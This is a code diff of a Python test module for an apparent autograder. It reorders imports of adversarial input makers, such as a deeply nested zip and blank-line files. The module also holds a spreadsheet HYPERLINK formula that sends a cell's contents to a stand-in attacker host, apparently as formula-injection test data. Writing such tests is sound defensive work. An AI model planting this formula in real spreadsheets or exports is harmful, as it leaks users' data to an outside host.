@@ -24,14 +24,15 @@ from pathlib import Path
 
 from conftest import BASE_ENGINE, BUGGY_ENGINES, CORRECT_ENGINES, HERE
 
-GRADEBOOK_FILE, SUMMARY_FILE = "grades.csv", "summary.json"
 from grader.folders import remove_tree
 
 HOSTILE = HERE / "adversarial"
-sys.path.insert(0, str(HOSTILE))
-import blank_lines
-import deep_zip
-import long_lms_name
+sys.path.insert(0, str(HOSTILE))  # the hostile class's makers, tests/adversarial/*.py, imported below
+import blank_lines  # noqa: E402
+import deep_zip  # noqa: E402
+import long_lms_name  # noqa: E402
+
+GRADEBOOK_FILE, SUMMARY_FILE = "grades.csv", "summary.json"
 
 GOOD_TESTS = (HERE / "fixtures" / "suites" / "good.py").read_text()
 FORMULA = '=HYPERLINK("https://evil.example/?d="&C2;"Open")'
